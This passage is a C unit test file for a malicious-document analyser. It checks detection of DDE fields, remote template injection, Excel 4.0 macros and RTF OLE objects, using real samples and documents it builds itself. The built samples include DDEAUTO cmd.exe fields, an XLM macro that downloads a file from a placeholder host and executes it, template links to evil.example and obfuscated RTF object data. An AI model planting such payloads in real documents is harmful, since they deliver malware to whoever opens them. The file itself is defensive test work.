/*
 * test_ooxml.c - the OOXML, CSV and RTF analysers (ooxml.c, rtf.c) on
 * real documents (tests/data/maldocs: oletools' DDE, external link and
 * Excel 4.0 samples and clean files; the ClamAV test RTF that embeds
 * clam.exe in an OLE Package) and on documents made here: .docx/.xlsm
 * written as stored ZIPs by zip_build() below (remote template, a DDEAUTO
 * field split over runs, a very hidden macro sheet with EXEC), and RTF
 * with obfuscated \objdata.  Every assertion names the exact facts (symbol
 * and detail) and children; the clean files must yield no fact at all.
 */
#include "test_helpers.h"

#include <stdio.h>

#include <zlib.h>

#include "objects/filetype.h"
#include "objects/object.h"

#define CLAMAV_DIR "/usr/share/clamav-testfiles"
#define CLAM_MD5 "aa15bcf478d165efd2065190eb473bcb"

static struct obj_limits
limits(void)
{
	struct obj_limits l = {
		.depth = 12, .objects = 1000, .names = 10000, .object_bytes = 64ull << 20,
		.unpacked_bytes = 512ull << 20, .stream_bytes = 1ull << 30,
		.ratio = 100, .ratio_min = 16ull << 20, .padding_min = 4ull << 20,
		.deadline_us = 0, .mime = NULL,
	};
	return l;
}

/* All facts of o, "SYMBOL(detail)" joined by "\n". */
static char *
facts(const struct mobj *o)
{
	GString *s = g_string_new(NULL);

	for (guint i = 0; o->facts != NULL && i < o->facts->len; i++) {
		const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, i);
		if (s->len > 0)
			g_string_append_c(s, '\n');
		g_string_append_printf(s, "%s(%s)", obj_fact_name(f->id), f->detail != NULL ? f->detail : "");
	}
	return g_string_free(s, FALSE);
}

static char *
urls(const struct mobj *o)
{
	GString *s = g_string_new(NULL);

	for (guint i = 0; o->urls != NULL && i < o->urls->len; i++) {
		if (s->len > 0)
			g_string_append_c(s, '\n');
		g_string_append(s, g_ptr_array_index(o->urls, i));
	}
	return g_string_free(s, FALSE);
}

static void
dump(const struct obj_tree *t)
{
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		char *f = facts(o), *u = urls(o);
		print_error("  %s type=%s size=%llu flags=%#x\n    facts: %s\n    urls: %s\n",
		    o->path, o->type != NULL ? o->type->name : "?",
		    (unsigned long long)o->size, o->flags, f, u);
		g_free(f);
		g_free(u);
	}
}

static const struct mobj *
by_path(const struct obj_tree *t, const char *path)
{
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		if (strcmp(o->path, path) == 0)
			return o;
	}
	return NULL;
}

static struct obj_tree *
build(const char *name, const uint8_t *p, size_t n)
{
	struct obj_limits lim = limits();

	return obj_tree_build_file(name, p, n, &lim);
}

/* The root's facts and URLs must be exactly these (a final '*' in
 * want_facts: the last fact's detail goes on, as GLib words it). */
static void
expect_root(const struct obj_tree *t, const char *type, const char *want_facts,
    const char *want_urls)
{
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	char *f = facts(root), *u = urls(root);
	size_t wl = strlen(want_facts);
	bool prefix = wl > 0 && want_facts[wl - 1] == '*';
	bool ok = root->type != NULL && strcmp(root->type->name, type) == 0 &&
	    (prefix ? strncmp(f, want_facts, wl - 1) == 0 && strchr(f + wl - 1, '\n') == NULL :
	    strcmp(f, want_facts) == 0) && (want_urls == NULL || strcmp(u, want_urls) == 0);

	if (!ok) {
		print_error("want type %s facts:\n%s\nurls:\n%s\ngot:\n", type, want_facts,
		    want_urls != NULL ? want_urls : "(any)");
		dump(t);
	}
	g_free(f);
	g_free(u);
	assert_true(ok);
}

static struct obj_tree *
build_file(const char *rel)
{
	char *path = g_build_filename(MAMORI_TESTDATA, "maldocs", rel, NULL);
	size_t n;
	uint8_t *b = test_load(path, &n);
	const char *base = strrchr(rel, '/');
	struct obj_tree *t = build(base != NULL ? base + 1 : rel, b, n);

	g_free(b);
	g_free(path);
	return t;
}

/* ---- a stored ZIP, for the documents made here ---- */

static uint32_t
crc32_of(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;

	for (size_t i = 0; i < n; i++) {
		c ^= p[i];
		for (int k = 0; k < 8; k++)
			c = (c >> 1) ^ (0xedb88320u & (0u - (c & 1u)));
	}
	return ~c;
}

static void
le16(GByteArray *a, uint32_t v)
{
	uint8_t b[2] = { (uint8_t)v, (uint8_t)(v >> 8) };
	g_byte_array_append(a, b, 2);
}

static void
le32(GByteArray *a, uint32_t v)
{
	uint8_t b[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24) };
	g_byte_array_append(a, b, 4);
}

/* names[i] holds texts[i]; NULL-terminated.  Free with g_byte_array_unref. */
static GByteArray *
zip_build(const char *const *names, const char *const *texts)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
	uint32_t count = 0;

	for (size_t i = 0; names[i] != NULL; i++, count++) {
		uint32_t off = z->len, nl = (uint32_t)strlen(names[i]);
		uint32_t len = (uint32_t)strlen(texts[i]);
		uint32_t crc = crc32_of((const uint8_t *)texts[i], len);
		le32(z, 0x04034b50); le16(z, 20); le16(z, 0); le16(z, 0);
		le16(z, 0); le16(z, 0x21); le32(z, crc); le32(z, len); le32(z, len);
		le16(z, nl); le16(z, 0);
		g_byte_array_append(z, (const uint8_t *)names[i], nl);
		g_byte_array_append(z, (const uint8_t *)texts[i], len);
		le32(cd, 0x02014b50); le16(cd, 20); le16(cd, 20); le16(cd, 0); le16(cd, 0);
		le16(cd, 0); le16(cd, 0x21); le32(cd, crc); le32(cd, len); le32(cd, len);
		le16(cd, nl); le16(cd, 0); le16(cd, 0); le16(cd, 0); le16(cd, 0);
		le32(cd, 0); le32(cd, off);
		g_byte_array_append(cd, (const uint8_t *)names[i], nl);
	}
	uint32_t cdoff = z->len, cdlen = cd->len;
	g_byte_array_append(z, cd->data, cd->len);
	le32(z, 0x06054b50); le16(z, 0); le16(z, 0); le16(z, (uint16_t)count);
	le16(z, (uint16_t)count); le32(z, cdlen); le32(z, cdoff); le16(z, 0);
	g_byte_array_unref(cd);
	return z;
}

#define CT_DOCX "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>" \
	"</Types>"
#define ROOT_RELS_DOCX "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" \
	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>" \
	"</Relationships>"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

/* ---- real OOXML and CSV ---- */

static void
test_dde_docx(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/dde/dde-test.docx");
	expect_root(t, "docx",
	    "DDE_FIELD(DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\")\n"
	    "DDE_FIELD(DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\")\n"
	    "DDE_FIELD(ddeauto \u00fcnic\u00f6de-test)", "");
	obj_tree_free(t);
}

static void
test_dde_xlsx(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/dde/dde-test.xlsx");
	expect_root(t, "xlsx", "DDE_FIELD(cmd|'/c calc.exe')", "");
	obj_tree_free(t);
}

static void
test_dde_csv(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/dde/dde-in-csv.csv");
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	char *f = facts(root);
	if (strcmp(f, "DDE_FIELD(=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0)") != 0) {
		dump(t);
		fail();
	}
	g_free(f);
	obj_tree_free(t);

	/* as type "csv" (tab-separated, quoted), and what is not DDE */
	static const char csv[] =
	    "name\tvalue\n"
	    "a\t\"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
	    "b\t=SUM(A1:A2)\n"
	    "c\t-12\n"
	    "d\t=HYPERLINK(\"http://example.invalid/\")\n";
	t = build("t.csv", BYTES(csv));
	root = g_ptr_array_index(t->roots, 0);
	f = facts(root);
	if (strcmp(f, "DDE_FIELD(@SUM(1+1)*cmd|' /C calc'!A0)") != 0) {
		dump(t);
		fail();
	}
	g_free(f);
	obj_tree_free(t);

	/* the same text, not named .csv: not read */
	t = build("t.txt", BYTES("=cmd|'/c calc'!A0\n"));
	root = g_ptr_array_index(t->roots, 0);
	assert_null(root->facts);
	obj_tree_free(t);
}

/*
 * The oleObject relationship to https://raw.githubusercontent.com/...:
 * an OLE object linked (o:OLEObject Type="Link" UpdateMode="Always") to
 * a remote .doc, which Word fetches when the document opens: the same
 * mechanism and the same risk as a remote template, so TEMPLATE_INJECTION.
 */
static void
test_external_link_docx(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/oleobj/sample_with_external_link_to_doc.docx");
	expect_root(t, "docx",
	    "TEMPLATE_INJECTION(oleObject https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/msodde/harmless-clean.doc)",
	    "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/msodde/harmless-clean.doc");
	obj_tree_free(t);
}

static void
test_xlm_xlsm(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/xlm/excel4_sample_macro.xlsm");
	expect_root(t, "xlsm",
	    "XLM_MACRO(xl/macrosheets/sheet1.xml)\n"
	    "XLM_AUTOEXEC(_xlnm.Auto_Open -> Macro1!$A$1)", "");
	obj_tree_free(t);
}

/* A docx with an embedded OLE package: no OOXML fact; its one fact is
 * the OLE analyser's, on the embedded object. */
static void
test_embedded_package(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/oleobj/embedded-simple-2007.docx");
	unsigned facts = 0;
	for (guint k = 0; k < t->all->len; k++) {
		const struct mobj *o = g_ptr_array_index(t->all, k);
		for (guint i = 0; o->facts != NULL && i < o->facts->len; i++) {
			assert_string_equal(obj_fact_name(g_array_index(o->facts, struct obj_fact, i).id),
			    "OLE_EMBEDDED_OBJECT");
			facts++;
		}
	}
	assert_int_equal(facts, 1);
	obj_tree_free(t);
}

static void
test_clean(void **state)
{
	static const char *const files[] = {
		"oletools/clean/harmless-clean.doc", "oletools/clean/harmless-clean.docx",
		"oletools/clean/harmless-clean.xml", "strelka/test.doc", "strelka/test.docx",
		"clamav/has_png_and_jpeg.xls", "oletools/other/text",
	};

	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(files); i++) {
		struct obj_tree *t = build_file(files[i]);
		for (guint k = 0; k < t->all->len; k++) {
			const struct mobj *o = g_ptr_array_index(t->all, k);
			if (o->facts != NULL && o->facts->len > 0) {
				print_error("%s: facts on a clean file\n", files[i]);
				dump(t);
				fail();
			}
		}
		obj_tree_free(t);
	}
}

/* ---- OOXML made here ---- */

static void
test_made_docx(void **state)
{
	static const char *const names[] = {
		"[Content_Types].xml", "_rels/.rels", "word/document.xml",
		"word/_rels/document.xml.rels", "word/settings.xml",
		"word/_rels/settings.xml.rels", "word/footer1.xml", NULL,
	};
	static const char *const texts[] = {
		CT_DOCX, ROOT_RELS_DOCX,
		/* DDEAUTO split over three runs, a nested field, a fldSimple,
		 * and a HYPERLINK field */
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document " W_NS "><w:body><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>"
		"<w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText>QUOTE 65</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:r><w:instrText>\"/c calc.exe\"</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
		"<w:r><w:t>x</w:t></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:fldSimple w:instr=\" DDE &quot;notepad&quot; x \"><w:r><w:t>y</w:t></w:r></w:fldSimple>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText>HYPERLINK \"https://example.invalid/field\"</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:r><w:t>DDEAUTO is only text here</w:t></w:r>"
		"</w:p></w:body></w:document>",
		/* a hyperlink: a URL, not an injection */
		"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>"
		"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"http://example.invalid/link\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument\" Target=\"\\\\198.51.100.7\\share\\s.docx\" TargetMode=\"External\"/>"
		"</Relationships>",
		"<?xml version=\"1.0\"?><w:settings " W_NS "><w:attachedTemplate r:id=\"rId1\"/></w:settings>",
		"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://example.invalid/t.dotm\" TargetMode=\"External\"/>"
		"</Relationships>",
		/* damaged XML */
		"<?xml version=\"1.0\"?><w:ftr " W_NS "><w:p></w:ftr>",
	};

	(void)state;
	GByteArray *z = zip_build(names, texts);
	struct obj_tree *t = build("made.docx", z->data, z->len);
	expect_root(t, "docx",
	    "TEMPLATE_INJECTION(subDocument \\\\198.51.100.7\\share\\s.docx)\n"
	    "TEMPLATE_INJECTION(attachedTemplate https://example.invalid/t.dotm)\n"
	    "DDE_FIELD(DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/c calc.exe\")\n"
	    "DDE_FIELD(DDE \"notepad\" x)\n"
	    "DOCUMENT_MALFORMED(word/footer1.xml: *",
	    "http://example.invalid/link\n"
	    "\\\\198.51.100.7\\share\\s.docx\n"
	    "https://example.invalid/t.dotm\n"
	    "https://example.invalid/field");
	obj_tree_free(t);
	g_byte_array_unref(z);
}

static void
test_made_xlsm(void **state)
{
	static const char *const names[] = {
		"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
		"xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml",
		"xl/worksheets/sheet2.xml", NULL,
	};
	static const char *const texts[] = {
		"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
		"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
		"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
		"</Types>",
		"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
		"</Relationships>",
		"\xef\xbb\xbf<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
		"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
		"<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
		"<sheet name=\"Hidden1\" sheetId=\"2\" state=\"hidden\" r:id=\"rId3\"/>"
		"<sheet name=\"Mac\" sheetId=\"3\" state=\"veryHidden\" r:id=\"rId2\"/>"
		"</sheets><definedNames><definedName name=\"auto_open21\" hidden=\"1\">Mac!$B$2</definedName>"
		"<definedName name=\"Print_Area\">Sheet1!$A$1</definedName></definedNames></workbook>",
		/* the macro sheet is named like a worksheet: found by its
		 * relationship type */
		"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
		"<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"/xl/worksheets/sheet2.xml\"/>"
		"<Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
		"</Relationships>",
		"<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
		"<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>",
		"<?xml version=\"1.0\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
		"xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
		"<row r=\"2\"><c r=\"B2\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0)</f></c>"
		"<c r=\"B3\"><f>EXEC(&quot;c:\\p.exe&quot;)</f></c>"
		/* literals joined by &, a quote doubled inside a literal */
		"<c r=\"B4\"><f>SET.VALUE(A1,\"https://\" &amp; \"joined.example/x.exe\")</f></c>"
		"<c r=\"B5\"><f>ALERT(\"see \"\"https://quoted.example/a\"\", then \"&amp;A1)</f></c>"
		"<c r=\"B6\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>",
	};

	(void)state;
	GByteArray *z = zip_build(names, texts);
	struct obj_tree *t = build("made.xlsm", z->data, z->len);
	expect_root(t, "xlsm",
	    "XLM_MACRO(xl/worksheets/sheet2.xml)\n"
	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p\",\"c:\\p.exe\",0,0))\n"
	    "XLM_SUSPICIOUS_FORMULA(xl/worksheets/sheet2.xml: EXEC(\"c:\\p.exe\"))\n"
	    "XLM_HIDDEN_SHEET(Mac, veryHidden)\n"
	    "XLM_AUTOEXEC(auto_open21 -> Mac!$B$2)",
	    "http://example.invalid/p\nhttps://joined.example/x.exe\nhttps://quoted.example/a");
	obj_tree_free(t);
	g_byte_array_unref(z);
}

/* ---- RTF ---- */

static void
test_rtf_issue_251(void **state)
{
	(void)state;
	struct obj_tree *t = build_file("oletools/other/issue_251.rtf");
	expect_root(t, "rtf",
	    "RTF_OBJUPDATE()\n"
	    "DOCUMENT_MALFORMED(objdata: native data cut (8 of 3072 bytes))\n"
	    "RTF_OLE_OBJECT(equation.3)\n"
	    "RTF_EQUATION_EDITOR(equation.3)", "");
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	const struct mobj *c = by_path(t, "issue_251.rtf/equation.3.bin");
	if (root->children->len != 1 || c == NULL || c->len != 8 ||
	    memcmp(c->data, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8) != 0 ||
	    c->origin != OBJ_FROM_EMBEDDED) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
}

static void
test_rtf_clam(void **state)
{
	(void)state;
	char *path = g_build_filename(CLAMAV_DIR, "clam.exe.rtf", NULL);
	if (!g_file_test(path, G_FILE_TEST_EXISTS)) {
		g_free(path);
		skip();
	}
	size_t n;
	uint8_t *b = test_load(path, &n);
	g_free(path);
	struct obj_tree *t = build("clam.exe.rtf", b, n);
	expect_root(t, "rtf", "RTF_OLE_OBJECT(Package (clam.exe))", "");
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	const struct mobj *c = by_path(t, "clam.exe.rtf/clam.exe");
	char md5[33] = "";
	if (c != NULL && c->hashed)
		obj_hex(c->md5, 16, md5);
	if (root->children->len != 1 || c == NULL || c->size != 544 ||
	    strcmp(md5, CLAM_MD5) != 0 || strcmp(c->type->name, "pe") != 0) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
	g_free(b);
}

/* An OLE1 embedded object, class Equation.3, whose native data holds the
 * Equation Editor's CLSID, as hex broken up the way exploit kits do. */
static const char made_rtf[] =
    "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}"
    "{\\field{\\*\\fldinst {\\rtlch HYPERLINK \"https://example.invalid/h\"}}{\\fldrslt x}}"
    "{\\object\\objemb\\objupdate\\objw100\\objh100{\\*\\objclass EqUATion.3}"
    "{\\*\\objdata 01050000\r\n02000000 0b000000\\pxe1 4571756174696f6e2e3300"
    "{\\junk 0123}0000 0000\t00000000"
    "\\bin4 \x20\x00\x00\x00"	/* NativeDataSize 32 as raw binary */
    "d0cf11e0a1b11ae1\\'41 0000000000000000"
    "02ce020000000000c000000000000046 ff}"
    "{\\result {\\pict ffff}}}"
    "{\\object{\\*\\objclass Package}{\\*\\objdata 0105000005000000"	/* static */
    "0800000050616b6b61676500}}"
    "{\\object{\\*\\objdata 0105000002000000ffffff7f41}}"	/* huge class name */
    "}";

static void
test_rtf_made(void **state)
{
	(void)state;
	struct obj_tree *t = build("made.rtf", BYTES(made_rtf));
	expect_root(t, "rtf",
	    "RTF_OBJUPDATE()\n"
	    "RTF_OLE_OBJECT(Equation.3)\n"
	    "RTF_EQUATION_EDITOR(Equation.3, CLSID {0002CE02-0000-0000-C000-000000000046})\n"
	    "DOCUMENT_MALFORMED(objdata: no OLE1 object header)\n"
	    "RTF_OLE_OBJECT(?)",
	    "https://example.invalid/h");
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	const struct mobj *c = by_path(t, "made.rtf/Equation.3.bin");
	static const uint8_t want[] = {
		0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0, 0, 0, 0, 0,
		0x02, 0xce, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
	};
	const struct mobj *d = by_path(t, "made.rtf/objdata.bin");
	if (root->children->len != 2 || c == NULL || c->len != sizeof(want) ||
	    memcmp(c->data, want, sizeof(want)) != 0 || d == NULL || d->len != 13) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
}

/*
 * The attached template ({\*\template ...}): a remote one is the
 * document's URL and TEMPLATE_INJECTION (escapes undone: \'hh, \\ of a
 * UNC path); a local one is neither; one left open at the end is read.
 */
static void
test_rtf_template(void **state)
{
	(void)state;
	static const struct {
		const char *rtf, *facts, *urls;
	} cases[] = {
		{ "{\\rtf1{\\*\\template https://rtf-t.example/a\\'2edotm}\\pard x\\par}",
		  "TEMPLATE_INJECTION(template https://rtf-t.example/a.dotm)",
		  "https://rtf-t.example/a.dotm" },
		{ "{\\rtf1{\\*\\template {\\ul \\\\\\\\host\\\\share\\\\t.dotm}}x}",
		  "TEMPLATE_INJECTION(template \\\\host\\share\\t.dotm)",
		  "\\\\host\\share\\t.dotm" },
		{ "{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}x}", "", "" },
		{ "{\\rtf1{\\*\\template  HTTPS://rtf-open.example/b", "TEMPLATE_INJECTION(template HTTPS://rtf-open.example/b)",
		  "HTTPS://rtf-open.example/b" },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct obj_tree *t = build("t.rtf", (const uint8_t *)cases[i].rtf, strlen(cases[i].rtf));
		expect_root(t, "rtf", cases[i].facts, cases[i].urls);
		obj_tree_free(t);
	}
}

/* Every prefix of the RTFs: no crash, no read past the end (the copy is
 * exactly len bytes, for ASan). */
static void
test_rtf_prefixes(void **state)
{
	(void)state;
	char *path = g_build_filename(MAMORI_TESTDATA, "maldocs/oletools/other/issue_251.rtf", NULL);
	size_t n;
	uint8_t *b = test_load(path, &n);
	g_free(path);
	const uint8_t *srcs[] = { b, (const uint8_t *)made_rtf };
	size_t lens[] = { n, sizeof(made_rtf) - 1 };
	for (size_t k = 0; k < 2; k++) {
		for (size_t len = 1; len <= lens[k]; len++) {
			uint8_t *p = g_memdup2(srcs[k], len);
			struct obj_tree *t = build("p.rtf", p, len);
			obj_tree_free(t);
			g_free(p);
		}
	}
	g_free(b);
}

/* Hostile XML: an entity bomb (GMarkup expands no declared entity) and
 * 200 000 nested elements; a field left open at the end (judged). */
static void
test_hostile_xml(void **state)
{
	(void)state;
	GString *deep = g_string_new("<?xml version=\"1.0\"?><w:ftr " W_NS ">");
	for (int i = 0; i < 200000; i++)
		g_string_append(deep, "<w:p>");
	for (int i = 0; i < 200000; i++)
		g_string_append(deep, "</w:p>");
	g_string_append(deep, "</w:ftr>");
	const char *names[] = {
		"[Content_Types].xml", "_rels/.rels", "word/header1.xml", "word/document.xml",
		"word/footer1.xml", NULL,
	};
	const char *texts[] = {
		CT_DOCX, ROOT_RELS_DOCX,
		"<w:hdr " W_NS "><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p></w:hdr>",
		"<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\">"
		"<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
		"<w:document " W_NS "><w:body><w:p><w:r><w:instrText>&c;</w:instrText></w:r></w:p></w:body></w:document>",
		deep->str,
	};
	GByteArray *z = zip_build(names, texts);
	struct obj_tree *t = build("hostile.docx", z->data, z->len);
	expect_root(t, "docx", "DDE_FIELD(DDEAUTO cmd)\nDOCUMENT_MALFORMED(word/document.xml: *", "");
	obj_tree_free(t);
	g_byte_array_unref(z);
	g_string_free(deep, TRUE);
}

/* ---- Office documents saved as one XML file (flatxml.c), ActiveMime ---- */

#define W2003 "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n" \
	"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">"

static void
test_flat_forms(void **state)
{
	(void)state;
	/* Flat OPC: the parts are children named as in a zip, ooxml.c reads them */
	static const char opc[] = "<?xml version=\"1.0\"?>\n"
	    "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
	    "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData>"
	    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
	    "relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" "
	    "TargetMode=\"External\"/></Relationships></pkg:xmlData></pkg:part>"
	    "<pkg:part pkg:name=\"/word/document.xml\"><pkg:xmlData><w:document xmlns:w=\"urn:w\">"
	    "<w:p a=\"&lt;&amp;&quot;\"><w:fldSimple w:instr=\" DDE cmd &quot;/c calc&quot; x\"/>"
	    "<w:t>1 &lt; 2</w:t></w:p></w:document></pkg:xmlData></pkg:part>"
	    "<pkg:part pkg:name=\"/word/media/note.txt\"><pkg:binaryData>aGVsbG8g\n"
	    "d29ybGQ=</pkg:binaryData></pkg:part></pkg:package>";
	struct obj_tree *t = build("a.xml", (const uint8_t *)opc, sizeof(opc) - 1);
	expect_root(t, "flatopc", "TEMPLATE_INJECTION(attachedTemplate https://evil.example/t.dotm)\n"
	    "DDE_FIELD(DDE cmd \"/c calc\" x)", "https://evil.example/t.dotm");
	const struct mobj *doc = by_path(t, "a.xml/word/document.xml");
	assert_non_null(doc);
	assert_string_equal(doc->type->name, "xml");
	const struct mobj *note = by_path(t, "a.xml/word/media/note.txt");
	assert_non_null(note);
	assert_int_equal(note->len, 11);
	assert_memory_equal(note->data, "hello world", 11);
	obj_tree_free(t);

	/* Word 2003 XML: fields, links, a remote template, w:binData parts */
	static const char w[] = W2003
	    "<w:docPr><w:attachedTemplate w:val=\"\\\\evil.example\\s\\t.dot\"/></w:docPr>"
	    "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
	    "DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd \"/c calc\"</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "<w:hlink w:dest=\"http://link.example/a\"><w:r><w:t>x</w:t></w:r></w:hlink>"
	    "<w:fldSimple w:instr=\"HYPERLINK &quot;http://field.example/&quot;\"/></w:p>"
	    "<w:binData w:name=\"wordml://1.txt\">aGVsbG8=</w:binData></w:body></w:wordDocument>";
	t = build("a.doc", (const uint8_t *)w, sizeof(w) - 1);
	expect_root(t, "wordxml", "TEMPLATE_INJECTION(attachedTemplate \\\\evil.example\\s\\t.dot)\n"
	    "DDE_FIELD(DDEAUTO cmd \"/c calc\")",
	    "\\\\evil.example\\s\\t.dot\nhttp://link.example/a\nhttp://field.example/");
	const struct mobj *bin = by_path(t, "a.doc/wordml://1.txt");
	assert_non_null(bin);
	assert_int_equal(bin->len, 5);
	obj_tree_free(t);

